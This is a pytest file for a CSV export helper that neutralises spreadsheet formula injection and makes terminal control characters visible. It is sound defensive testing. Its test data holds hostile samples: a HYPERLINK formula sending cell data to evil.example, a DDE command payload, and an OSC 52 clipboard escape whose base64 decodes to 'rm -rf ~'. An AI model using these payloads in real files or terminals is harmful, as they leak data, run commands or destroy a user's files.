"""CSV that a spreadsheet opens safely: formula injection neutralised, quoting by the csv module."""

import csv
import io

import pytest

from trainer.export.csvsafe import BOM, neutralise, to_csv


def parse(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        ("\x00=x", "'\x00=x"),
        ('=HYPERLINK("http://evil.example?"&A1,"click")', '\'=HYPERLINK("http://evil.example?"&A1,"click")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("Normal text, with a comma", "Normal text, with a comma"),
        ('He said "no"', 'He said "no"'),
        ("two\nlines", "two\nlines"),
        ("a = b", "a = b"),  # only the first character matters
        ("'quoted already", "'quoted already"),
        ("[/]", "[/]"),
        ("[@click=app.quit]x", "[@click=app.quit]x"),
        ("", ""),
    ],
)
def test_cells_round_trip_with_formulas_neutralised(cell, expected):
    assert neutralise(cell) == expected
    rows = parse(to_csv(["text", "n"], [[cell, 3]]))
    # A control character reaches the file only as its visible picture, which starts no formula.
    in_file = {"\r=x": "\u240d=x", "\x00=x": "\u2400=x"}.get(cell, expected)
    assert rows == [["text", "n"], [in_file, "3"]]


def test_control_characters_never_reach_the_file_raw():
    hostile = "a\x1b]52;c;cm0gLXJmIH4K\x07 b\x1b[2J\x9b\u202e c\x7f\x00"
    text = to_csv(["text"], [[hostile]])
    assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text and "\x7f" not in text
    assert parse(text)[1] == [
        "a\u241b]52;c;cm0gLXJmIH4K\u2407 b\u241b[2J\ufffd\u27e8U+202E\u27e9 c\u2421\u2400"
    ]


def test_header_none_bool_and_numbers():
    text = to_csv(["a", "b", "c", "d"], [[None, True, 0.25, 7]])
    assert parse(text) == [["a", "b", "c", "d"], ["", "true", "0.25", "7"]]
    assert text.endswith("\r\n") and "\r\n" in text  # RFC 4180 line ends


def test_without_bom():
    assert not to_csv(["a"], [], bom=False).startswith(BOM)
